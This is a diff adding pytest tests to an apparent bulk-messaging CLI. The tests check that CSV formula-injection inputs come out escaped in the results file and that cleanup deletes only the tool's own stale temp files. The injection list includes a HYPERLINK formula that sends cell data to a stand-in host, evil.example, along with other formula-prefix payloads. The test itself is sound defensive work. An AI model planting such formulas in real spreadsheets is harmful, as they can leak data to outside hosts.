@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.conftest import read_results
 from tests.helpers import NESTED
 from tests.hostile import assert_no_secret, cli_env, run_cli
 
@@ -147,3 +148,41 @@ def test_a_workbook_within_the_limits_still_loads(tmp_path: Path) -> None:
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
                   env=cli_env(tmp_path / "home"))  # fmt: skip
     assert ran.code == 0, ran.out
+
+
+# --- 13. the smaller ones -------------------------------------------------------------------
+
+
+def test_csv_results_cells_never_run_as_formulas(
+    tmp_path: Path, write_csv: Callable[..., Path]
+) -> None:
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)",
+               "\t=1+1", "\r=1+1"]  # fmt: skip
+    rows = [["Name", "Phone", "Note"], *([f"Dana{i}", f"+972 50 234 56{i:02d}", attack]
+                                         for i, attack in enumerate(attacks))]  # fmt: skip
+    contacts = write_csv(rows)
+    ran = run_cli(["send", str(contacts), "-m", "{{ note }}", *DRY], cwd=tmp_path,
+                  env=cli_env(tmp_path / "home"))  # fmt: skip
+    assert ran.code == 0, ran.out
+    got = read_results(tmp_path / "out.csv")
+    assert [r["Note"] for r in got] == ["'" + a for a in attacks]
+    assert [r["message"] for r in got] == ["'" + a.strip() for a in attacks]
+    assert got[0]["Phone"] == "'+972 50 234 5600"  # text, readable, not 9.72502E+11
+
+
+def test_only_our_own_temp_files_are_removed(
+    tmp_path: Path, write_csv: Callable[..., Path], sandbox_env: dict[str, str]
+) -> None:
+    contacts = write_csv(PEOPLE)
+    others = [".out.tmp", ".out-notes.tmp", ".out.csv.backup.tmp", ".outline.tmp",
+              ".out.csv.12.secret-draft.tmp"]  # fmt: skip
+    for name in others:
+        (tmp_path / name).write_text("someone else's")
+    stale = tmp_path / ".out.csv.4194999.k2j4x9ab.tmp"  # ours, its writer long gone
+    stale.write_text("half a sheet")
+    env = cli_env(tmp_path / "home", sandbox_env["IBOT_BASE_URL"])
+    ran = run_cli(["send", str(contacts), "-m", "Hi", "--yes", "--pace", "fast", "--delay", "0",
+                   "--jitter", "0", "--quiet", "--results", "out.csv"], cwd=tmp_path, env=env)  # fmt: skip
+    assert ran.code == 0, ran.out
+    assert all((tmp_path / name).exists() for name in others)
+    assert not stale.exists()
